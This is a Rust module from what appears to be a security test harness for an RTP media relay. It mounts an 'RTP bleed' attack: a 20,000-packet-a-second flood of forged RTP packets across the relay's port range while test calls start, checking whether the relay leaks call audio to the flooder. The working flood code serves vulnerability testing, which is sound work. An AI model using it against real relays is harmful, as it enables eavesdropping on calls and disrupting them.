//! RTP bleed: RTP at the whole range while calls are set up, by somebody who hopes that a relay sends a call's sound to
//! whoever speaks first.

use std::net::SocketAddrV4;
use std::sync::atomic::{AtomicBool, Ordering};

use peers::random;
use peers::scenario::Scenario;

use crate::attack::{Outcome, Scene};
use crate::field::{ATTACKER, PRIVATE, PUBLIC};
use crate::flood::Hand;
use crate::programs::PORTS;
use crate::witness::Witness;

/// Packets a second.
const RATE: u64 = 20_000;
/// Rounds of new calls.
const ROUNDS: usize = 4;
/// A packet's length: an RTP header and 160 octets of G.711.
const LEN: usize = 172;

/// Sprays while calls of each kind are set up, talk, and end.
pub(super) fn whole_range(scene: &mut Scene<'_>) -> Result<Outcome, String> {
    let targets: Vec<SocketAddrV4> = PORTS
        .flat_map(|port| {
            [
                SocketAddrV4::new(PUBLIC, port),
                SocketAddrV4::new(PRIVATE, port),
            ]
        })
        .collect();
    let mut hand = Hand::new(&scene.field.alley, 5004)?;
    let over = AtomicBool::new(false);
    let ssrc = random::bytes::<4>();
    std::thread::scope(|scope| {
        let spray = scope.spawn(|| {
            hand.flood(
                RATE,
                |_| !over.load(Ordering::Relaxed),
                |number, room| {
                    // In order at each port, as a phone's would be.
                    let at = number as usize % targets.len();
                    let round = (number as usize / targets.len()) as u16;
                    room[..LEN].fill(0x55);
                    room[..2].copy_from_slice(&[0x80, 0]);
                    room[2..4].copy_from_slice(&round.to_be_bytes());
                    room[4..8].copy_from_slice(&(u32::from(round) * 160).to_be_bytes());
                    room[8..12].copy_from_slice(&ssrc);
                    (LEN, ATTACKER, targets[at])
                },
            )
        });
        let talked = talk(scene);
        over.store(true, Ordering::Relaxed);
        let sent = spray.join().unwrap_or_default();
        talked.map(|bite| Outcome::of(sent).biting(bite))
    })
}

/// Calls that come and go. Their ports' numbers begin above the witness's own.
fn talk(scene: &mut Scene<'_>) -> Result<Option<String>, String> {
    let kinds = [Scenario::AvpAvp, Scenario::AvpSdes, Scenario::AvpDtlsActive];
    for _ in 0..ROUNDS {
        let calls = Witness::start_at(10, scene.field, scene.ng, scene.identity, &kinds, None)?;
        let mark = calls.mark();
        std::thread::sleep(std::time::Duration::from_millis(500));
        let report = calls.since(&mark);
        calls.tear_down(scene.ng);
        if report.lost + report.wrong > 0 {
            return Ok(Some(format!(
                "calls that were set up meanwhile lost {} packets and heard {} wrong ones",
                report.lost, report.wrong
            )));
        }
    }
    Ok(None)
}
